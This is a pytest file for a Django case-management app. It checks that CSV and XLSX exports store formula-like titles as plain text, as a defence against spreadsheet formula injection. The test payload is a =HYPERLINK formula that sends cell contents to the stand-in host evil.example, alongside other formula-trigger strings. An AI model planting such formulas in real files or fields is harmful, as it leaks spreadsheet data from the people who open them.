"""Exports never carry a live formula (issue 15): a title typed as =HYPERLINK(…) reaches the
spreadsheet as text, in the XLSX (a string cell) and in the CSV (a leading apostrophe)."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from supervision.exports import csv_safe, xlsx_bytes

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize("value", [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1"])
def test_a_formula_stays_text_in_xlsx(value):
    sheet = load_workbook(io.BytesIO(xlsx_bytes("t", ["h"], [[value, 5, "普通文字"]]))).active
    cell = sheet["A2"]
    assert cell.value == value and cell.data_type == "s"
    assert sheet["B2"].value == 5 and sheet["C2"].value == "普通文字"


def test_csv_fields_are_neutralised_and_plain_text_is_left_alone():
    assert csv_safe(EVIL) == "'" + EVIL
    assert csv_safe("关于规范执法的检察建议") == "关于规范执法的检察建议"
    assert csv_safe(7) == 7


def test_the_case_exports_carry_the_title_as_text(world):
    world.register_case(title=EVIL)
    client = Client()
    client.force_login(world.procurator)
    body = b"".join(client.get(reverse("cases:export", args=["csv"])).streaming_content)
    titles = [row[1] for row in csv.reader(io.StringIO(body.decode("utf-8-sig")))]
    assert "'" + EVIL in titles
    sheet = load_workbook(io.BytesIO(client.get(reverse("cases:export", args=["xlsx"])).content)).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert any(c.value == EVIL and c.data_type == "s" for c in cells)
